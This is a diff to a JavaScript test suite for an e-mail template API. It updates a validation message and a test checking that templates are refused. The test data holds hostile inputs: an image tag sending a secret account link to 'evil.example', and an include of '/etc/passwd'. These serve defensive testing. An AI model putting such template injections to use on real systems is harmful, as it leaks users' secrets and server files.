@@ -89,7 +89,7 @@ describe('POST /email/templates/create', () => {
     ['htmlTemplate', '<p>\n</p>\n{% if x %}', 'Line 3: {% if x %} is opened and never closed.'],
     ['htmlTemplate', 'Dear\n{{ firstName', 'Line 2: A {{ is opened and never closed with }}.'],
     ['textTemplate', '\n{{ firstName | upcse }}', 'Line 2: There is no filter "upcse".'],
-    ['textTemplate', '{% endif %}', 'Line 1: {% endif %} closes or continues nothing that was opened.'],
+    ['textTemplate', '{% endif %}', 'Line 1: {% endif %} has no matching opening tag.'],
     ['textTemplate', '{% fro x in y %}', 'Line 1: There is no tag "fro".'],
     ['subjectTemplate', '{{ }}', 'Line 1: Something is missing between the braces.'],
     ['textTemplate', "a\nb {% include '/etc/passwd' %}", 'Line 2: Other templates cannot be included here.'],
@@ -250,7 +250,7 @@ describe('An organizer editing e-mail templates', () => {
 
 test('A template that would leak a secret link is refused at its field', async () => {
   const templateType = 'account_link'
-  const htmlTemplate = '<img src="https://evil.example/?{{ accountLinkTemplate }}">'
+  const htmlTemplate = '<img src="https://evil.example/?{{ accountLink }}">'
   const leaking = aTemplateInput({ templateType, htmlTemplate, subjectTemplate: 'x', textTemplate: 'x' })
   expect(await call('/create', leaking)).toMatchObject({
     status: 400,
